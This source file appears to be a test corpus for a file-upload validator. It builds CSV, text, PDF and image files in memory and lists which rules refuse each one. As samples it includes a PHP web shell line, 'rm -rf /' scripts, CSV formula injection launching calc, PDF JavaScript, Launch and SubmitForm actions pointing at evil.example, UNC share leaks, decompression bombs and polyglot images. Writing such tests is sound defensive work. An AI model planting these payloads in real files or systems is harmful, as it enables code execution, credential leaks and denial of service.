/** Files that people hand in, good and hostile, made in memory: what each is, and the rule that refuses it, if one does. */
import { deflateSync } from 'node:zlib'
import { bytes, EICAR, type HandedInCase, html, program, refused, repeated, taken, text, XML } from './case.ts'
import { officeOf } from './make-office.ts'
import { objectStream, pdfOf, stream } from './make-pdf.ts'
import { gif, jpegOf, pngOf, scriptSegment, webpOf } from './make-picture.ts'
import { packedBlanks, zipOf } from './make-zip.ts'
import { ARCHIVES, OFFICES } from './office-files.ts'

const TEXTS: readonly HandedInCase[] = [
  taken('policies.csv', 'CSV in UTF-8', text('policy,insured,value\n1,Zoë,-1234.50\n')),
  taken('policies.csv', 'CSV with its byte order mark', text('\ufeffpolicy,value\n1,2\n')),
  taken('policies.csv', 'CSV of Excel on Windows', () => bytes('name\nM\xfcller \x80\n')),
  taken('policies.csv', 'CSV in UTF-16', () => bytes('\xff\xfe', Buffer.from('name\nMüller\n', 'utf16le'))),
  taken('policies.csv', 'CSV that begins as a bitmap does', text('BMO Harris,1\nMZ Bank,2\n')),
  taken('policies.csv', 'CSV with amounts below zero and formulas that only reckon', text('a,b\n-1,=A2*2\n+3,@x\n')),
  taken('policies.csv', 'text between bars with an exclamation', text('-100.00|Paid|Thanks!\n')),
  taken('policies.csv', 'columns that are mostly empty', () => repeated(300, () => `1${'\t'.repeat(3_000)}\n`)),
  taken('notes.txt', 'text that begins with hundreds of comments', () => repeated(500, () => '<!---->')),
  taken('notes.txt', 'text with the end mark of DOS', () => bytes('Minutes\r\n\x1a')),
  taken('notes.txt', 'text that speaks of tags', text('Write <script> only in the header; a < b.')),
  refused('empty', 'notes.txt', 'nothing', () => Buffer.alloc(0)),
  refused('not-text', 'notes.txt', 'bytes of no kind', () => bytes('abc\0\x01\x02def')),
  refused('not-text', 'notes.txt', 'commands to a terminal', () => bytes('hello \x1b]0;owned\x07')),
  refused('not-text', 'policies.csv', 'an encoding nobody has', () => bytes('name\n\x81\x8d\xfc\n')),
  refused('web-page', 'notes.txt', 'a web page', text(html)),
  refused('web-page', 'policies.csv', 'a table of a web page', text('<table><tr><td>1</td></tr></table>')),
  refused('web-page', 'notes.txt', 'a drawing with a script', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  refused('web-page', 'notes.txt', 'XML', text(`${XML}<a/>`)),
  refused('web-page', 'notes.txt', 'PHP', text('<?php system($_GET["c"]); ?>')),
  refused('program', 'notes.txt', 'a shell script', text('#!/bin/sh\nrm -rf /\n')),
  refused('program', 'notes.txt', 'a batch file', text('@echo off\r\ndel *.*\r\n')),
  refused('program', 'notes.txt', 'a Windows program', () => program),
  refused('content', 'notes.txt', 'RTF', text('{\\rtf1\\ansi hello}')),
  refused('content', 'policies.csv', 'an Excel workbook', () => officeOf('xlsx')),
  refused('content', 'notes.txt', 'a picture', () => pngOf()),
  refused('field-program', 'policies.csv', 'a cell that starts a program', text("a,b\n1,=cmd|' /C calc'!A0\n")),
  refused('field-program', 'policies.csv', 'the same, behind signs and blanks', text("a;b\n1; +=-MSEXCEL|'\\..\\..\\calc.exe'!A1\n")),
  refused('test-virus', 'eicar.txt', 'the scanners’ test file', text(EICAR)),
  refused('test-virus', 'eicar.csv', 'the same with a line’s end', text(`${EICAR}\r\n`)),
  refused('scanner', 'eicar.txt', 'the scanners’ test file behind other words', text(`Minutes ${EICAR}`)),
]

const PDFS: readonly HandedInCase[] = [
  taken('report.pdf', 'a page', () => pdfOf()),
  taken('report.pdf', 'objects in a stream', () =>
    pdfOf({ objects: [objectStream('<< /Type /Metadata /Title (JavaScript and Launch) >>')] }),
  ),
  taken('report.pdf', 'a link to a web site', () => pdfOf({ objects: ['<< /S /URI /URI (https://www.fdic.gov) >>'] })),
  taken('report.pdf', 'a second save', () => pdfOf({ tail: pdfOf().subarray(15) })),
  taken('report.pdf', 'blanks behind its end', () => pdfOf({ tail: '\r\n \0\0' })),
  taken('report.pdf', 'names that begin as ours do', () => pdfOf({ catalog: '/EncryptMetadata true /LaunchPad 1 /JavaScriptish 2' })),
  taken('report.pdf', 'a long picture that is hardly packed', () =>
    pdfOf({ objects: [stream(deflateSync(noise(400_000)), '/Filter /FlateDecode')] }),
  ),
  refused('empty', 'report.pdf', 'nothing', () => Buffer.alloc(0)),
  refused('web-page', 'report.pdf', 'a web page', text(html)),
  refused('web-page', 'report.pdf', 'a drawing', text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>')),
  refused('program', 'report.pdf', 'a program', () => program),
  refused('content', 'report.pdf', 'a PDF behind other bytes', () => bytes('xx', pdfOf())),
  refused('content', 'report.pdf', 'a zip', () => zipOf([{ name: 'a.txt', content: 'a' }])),
  refused('damaged', 'report.pdf', 'its first line only', text('%PDF-1.7\n')),
  refused('damaged', 'report.pdf', 'no PDF after its first line', text('%PDF-1.7\n<html> hello </html>')),
  refused('pdf-script', 'report.pdf', 'a script at opening', () =>
    pdfOf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
  ),
  refused('pdf-script', 'report.pdf', 'a script under a name in digits', () =>
    pdfOf({ catalog: '/OpenAction << /S /J#61va#53cript /JS (1) >>' }),
  ),
  refused('pdf-script', 'report.pdf', 'a script by name in the tree', () =>
    pdfOf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' }),
  ),
  refused('pdf-script', 'report.pdf', 'a script in an object stream', () =>
    pdfOf({ objects: [objectStream('<< /S /JavaScript /JS (1) >>')] }),
  ),
  refused('pdf-script', 'report.pdf', 'a script in an object stream that does not say what it is', () =>
    pdfOf({ objects: [objectStream('<< /S /JavaScript /JS (1) >>', { type: '/Metadata' })] }),
  ),
  refused('pdf-script', 'report.pdf', 'the same under names in digits', () =>
    pdfOf({ objects: [objectStream('<< /S /#4AavaScript /JS (1) >>', { dictionary: '/Filter /Fl#61teDecode', type: '/Obj#53tm' })] }),
  ),
  refused('pdf-script', 'report.pdf', 'a script within the bytes of another stream', () =>
    pdfOf({ objects: [stream(bytes('9 0 obj ', objectStream('<< /S /JavaScript /JS (1) >>'), ' endobj'))] }),
  ),
  refused('pdf-script', 'report.pdf', 'a script of a rendition', () => pdfOf({ objects: ['<< /S /Rendition /JS (1) >>'] })),
  refused('pdf-script', 'report.pdf', 'a form of XFA', () =>
    pdfOf({ catalog: '/AcroForm << /XFA 5 0 R >>', objects: [stream(Buffer.from('<xdp:xdp/>'))] }),
  ),
  refused('damaged', 'report.pdf', 'an object stream behind an unusual filter', () =>
    pdfOf({ objects: [objectStream('<< /S /JavaScript >>', { dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]' })] }),
  ),
  refused('damaged', 'report.pdf', 'an object stream behind a predictor', () =>
    pdfOf({ objects: [objectStream('<< >>', { dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })] }),
  ),
  refused('damaged', 'report.pdf', 'an object stream that cannot be unpacked', () =>
    pdfOf({ objects: [objectStream('', { packed: Buffer.from('no zip') })] }),
  ),
  refused('pdf-launch', 'report.pdf', 'a program to launch', () => pdfOf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })),
  refused('pdf-launch', 'report.pdf', 'a way into a file within', () => pdfOf({ objects: ['<< /S /GoToE /D [0 /Fit] >>'] })),
  refused('pdf-launch', 'report.pdf', 'a way into another file at opening', () =>
    pdfOf({ catalog: '/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>' }),
  ),
  refused('pdf-launch', 'report.pdf', 'the same in an object stream', () =>
    pdfOf({ catalog: '/OpenAction 9 0 R', objects: [objectStream('<< /S /GoTo#52 /F (other.pdf) /D [0 /Fit] >>')] }),
  ),
  refused('pdf-sends', 'report.pdf', 'a form that is sent at opening', () =>
    pdfOf({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>' }),
  ),
  refused('pdf-sends', 'report.pdf', 'a form that a button sends', () => pdfOf({ objects: ['<< /A << /S /SubmitForm /F 6 0 R >> >>'] })),
  taken('report.pdf', 'a title and a page that speak of a share and of a web site', () =>
    pdfOf({
      catalog: '/Lang (en) /OpenAction [3 0 R /Fit]',
      objects: [
        '<< /Title (\\\\\\\\fileserver\\\\minutes.docx) >>',
        '<< /S /URI /URI (https://www.fdic.gov//a) >>',
        objectStream('<< /Title (\\\\\\\\fileserver\\\\x) /F (page.pdf) >>'),
      ],
      contents: stream(Buffer.from('BT /F1 12 Tf (\\\\\\\\fileserver\\\\reports) Tj [(//x) (\\\\\\\\y)] TJ ET')),
    }),
  ),
  ...[
    ['as a file', '<< /Type /XObject /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /Length 0 >>'],
    ['in octal', '<< /F (\\134\\134evil.example\\134share) >>'],
    ['with slashes', '<< /Type /Filespec /UF (//evil.example/share/a) >>'],
    ['as an address', '<< /S /URI /URI (file://evil.example/share) >>'],
    ['as an address of backslashes', '<< /S /U#52I /URI(\\\\\\\\evil.example\\\\x) >>'],
    ['in digits', '<< /F <5c5C 6576696C> >>'],
    ['in wide digits', '<< /UF <FEFF005C005C0065> >>'],
    ['in wide letters', '<< /UF (\xfe\xff\0\\\\\0\\\\\0e\0v) >>'],
    ['behind another object', '(\\\\\\\\evil.example\\\\share)'],
  ].map(([what, object]) =>
    refused('pdf-share', 'report.pdf', `another machine’s share, ${what}`, () => pdfOf({ objects: [object ?? ''] })),
  ),
  refused('pdf-share', 'report.pdf', 'another machine’s share in an object stream', () =>
    pdfOf({ objects: [objectStream('<< /F (\\\\\\\\evil.example\\\\share) >>')] }),
  ),
  refused('pdf-share', 'report.pdf', 'the same as a text of its own', () =>
    pdfOf({ objects: ['<< /F 9 0 R >>', objectStream('(\\\\\\\\evil.example\\\\share)')] }),
  ),
  refused('pdf-embedded', 'report.pdf', 'a file within', () => pdfOf({ objects: [stream(program, '/Type /EmbeddedFile')] })),
  refused('pdf-embedded', 'report.pdf', 'a tree of files within', () => pdfOf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
  refused('pdf-embedded', 'report.pdf', 'media', () => pdfOf({ objects: ['<< /Subtype /RichMedia >>'] })),
  refused('encrypted', 'report.pdf', 'a password', () => pdfOf({ trailer: '/Encrypt << /Filter /Standard /V 2 >>' })),
  refused('expands', 'report.pdf', 'an object stream of 200 MB', () => pdfOf({ objects: [objectStream('', { packed: zlibOf(200) })] })),
  refused('expands', 'report.pdf', 'a page of 1 GB', () => pdfOf({ objects: [stream(zlibOf(1024), '/Filter /FlateDecode')] })),
  refused('expands', 'report.pdf', 'a page of 200 MB that is short as it lies, under a name in digits', () =>
    pdfOf({ objects: [stream(zlibOf(200), '/Filter /Fl#61teDecode')] }),
  ),
  taken('report.pdf', 'a white page as it was scanned', () =>
    pdfOf({ objects: [stream(zlibOf(100), '/Type /XObject /Subtype /Image /Width 4960 /Height 7016 /Filter /FlateDecode')] }),
  ),
  refused('expands', 'report.pdf', 'packed twice', () =>
    pdfOf({ objects: [stream(deflateSync(zlibOf(64)), '/Filter [/FlateDecode /FlateDecode]')] }),
  ),
  refused('expands', 'report.pdf', 'a million objects', () =>
    pdfOf({
      objects: [
        bytes(
          '0 endobj\n',
          repeated(1_000_000, (index) => `${index + 9} 0 obj 0 endobj\n`),
          '9 0 obj 0',
        ),
      ],
    }),
  ),
  refused('polyglot', 'report.pdf', 'a page too, in its head', () => pdfOf({ head: `%PDF-1.7\n%<html><script>alert(1)</script>\n` })),
  refused('polyglot', 'report.pdf', 'a page too, between its objects', () =>
    pdfOf({ objects: [bytes('0\nendobj\n', ' '.repeat(4000), '<script>alert(1)</script>\n9 0 obj\n0')] }),
  ),
  refused('polyglot', 'report.pdf', 'a zip too, behind its end', () => pdfOf({ tail: zipOf([{ name: 'a.exe', content: program }]) })),
  refused('polyglot', 'report.pdf', 'a zip too, in its middle', () =>
    pdfOf({ objects: [stream(zipOf([{ name: 'a.exe', content: program }]))] }),
  ),
  refused('polyglot', 'report.pdf', 'bytes behind its end', () => pdfOf({ tail: 'and more' })),
  refused('scanner', 'report.pdf', 'the scanners’ test file within', () => pdfOf({ objects: [stream(Buffer.from(EICAR))] })),
]

const PICTURES: readonly HandedInCase[] = [
  taken('scan.png', 'a PNG', () => pngOf()),
  taken('scan.jpg', 'a JPEG', () => jpegOf()),
  taken('scan.jpeg', 'a JPEG with the camera’s second picture', () => jpegOf(2, 2, { tail: jpegOf() })),
  taken('scan.jpg', 'a JPEG filled up with zeros', () => jpegOf(2, 2, { tail: Buffer.alloc(64) })),
  taken('scan.webp', 'a WebP', () => webpOf()),
  refused('empty', 'scan.png', 'nothing', () => Buffer.alloc(0)),
  refused('content', 'scan.png', 'a JPEG', () => jpegOf()),
  refused('content', 'scan.jpg', 'a GIF that is a script too', () => gif('/*;*/=1;alert(1)//')),
  refused(
    'web-page',
    'scan.png',
    'a drawing with a script',
    text('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><script>1</script></foreignObject></svg>'),
  ),
  refused('web-page', 'scan.jpg', 'PHP', text('<?php system("id");')),
  refused('damaged', 'scan.png', 'half a PNG', () => pngOf().subarray(0, 40)),
  refused('damaged', 'scan.jpg', 'half a JPEG', () => jpegOf().subarray(0, 30)),
  refused('damaged', 'scan.webp', 'half a WebP', () => webpOf().subarray(0, 20)),
  refused('damaged', 'scan.png', 'a picture of no size', () => pngOf(0, 2)),
  refused('pixels', 'scan.png', '50,000 times 50,000 pixels', () => pngOf(50_000, 50_000)),
  refused('pixels', 'scan.jpg', '65,535 times 65,535 pixels', () => jpegOf(65_535, 65_535)),
  refused('pixels', 'scan.webp', '16,000 times 16,000 pixels', () => webpOf(16_000, 16_000)),
  refused('polyglot', 'scan.png', 'PHP in its comment', () => pngOf(2, 2, { text: '<?php system($_GET["c"]);?>' })),
  refused('polyglot', 'scan.png', 'a page behind it', () => pngOf(2, 2, { tail: html })),
  refused('polyglot', 'scan.png', 'a zip behind it', () =>
    pngOf(2, 2, { tail: zipOf([{ name: 'a.exe', content: program }]).toString('latin1') }),
  ),
  refused('polyglot', 'scan.jpg', 'a page in its comment', () => jpegOf(2, 2, { comment: '<script>alert(1)</script>' })),
  refused('polyglot', 'scan.jpg', 'a zip behind it', () => jpegOf(2, 2, { tail: zipOf([{ name: 'a.exe', content: program }]) })),
  refused('polyglot', 'scan.jpg', 'a script whose comment it is', () => jpegOf(2, 2, { first: scriptSegment() })),
  refused('polyglot', 'scan.webp', 'a PDF behind it', () => webpOf(2, 2, pdfOf())),
]

export const CORPUS: readonly HandedInCase[] = [...TEXTS, ...PDFS, ...OFFICES, ...ARCHIVES, ...PICTURES]

/** The same noise every time: bytes that do not pack. */
function noise(length: number): Buffer {
  const result = Buffer.alloc(length)
  let state = 1
  for (let index = 0; index < length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
    result[index] = state >>> 16
  }
  return result
}

/** A zlib stream of so many megabytes of blanks. */
const zlibOf = (megabytes: number): Buffer => bytes('\x78\x9c', packedBlanks(megabytes), Buffer.alloc(4))
